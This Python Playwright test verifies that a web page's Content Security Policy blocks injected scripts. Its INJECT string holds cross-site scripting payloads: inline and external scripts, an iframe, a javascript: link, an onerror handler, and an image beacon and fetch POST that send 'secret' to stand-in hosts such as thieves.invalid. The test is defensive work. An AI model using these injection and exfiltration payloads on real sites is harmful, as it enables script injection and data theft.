"""The page's policy does what it says: a script that somebody gets into the page does not run."""

from __future__ import annotations

import re

from playwright.sync_api import Browser, expect

from lab.command import wait_until
from tests.browser import policy
from tests.browser.test_page import SOMETHING

INJECT = """() => {
  const script = document.createElement('script');
  script.textContent = 'window.ran = "inline"';
  document.body.append(script);
  const outside = document.createElement('script');
  outside.src = 'https://scripts.invalid/x.js';
  document.body.append(outside);
  const frame = document.createElement('iframe');
  frame.src = 'https://frames.invalid/';
  document.body.append(frame);
  const picture = new Image();
  picture.src = 'https://pictures.invalid/?secret';
  fetch('https://thieves.invalid/', { method: 'POST', body: 'secret' }).catch(() => undefined);
  const link = document.createElement('a');
  link.href = 'javascript:void(window.ran = "address")';
  document.body.append(link);
  link.click();
  const drawing = document.createElement('div');
  drawing.innerHTML = '<img src="/none" onerror="window.ran = \\'handler\\'">';
  document.body.append(drawing);
}"""
REFUSED = (
    "script-src-elem refused inline",
    "scripts.invalid",
    "frames.invalid",
    "pictures.invalid",
    "thieves.invalid",
    "script-src-attr",
)


def test_an_injected_script_does_not_run(browser: Browser, public_url: str) -> None:
    context = browser.new_context()
    violations = policy.watch(context)
    # without Clerk the page stays where it is: on the way to sign-in it would be gone before it has tried everything
    context.route(re.compile(rf"^(?!{re.escape(public_url.rstrip('/'))}(/|$))"), lambda route: route.abort())
    page = context.new_page()
    page.goto(public_url, wait_until="domcontentloaded")
    expect(page.locator("#root")).to_have_text(SOMETHING, timeout=60_000)
    assert violations == []
    page.evaluate(INJECT)

    def all_refused() -> bool:
        page.wait_for_timeout(50)  # what the page tells arrives while Playwright is at work
        return all(any(word in told for told in violations) for word in REFUSED)

    wait_until(all_refused, 10, lambda: f"something of what was injected was not refused: {violations}")
    assert page.evaluate("window.ran") is None
    context.close()
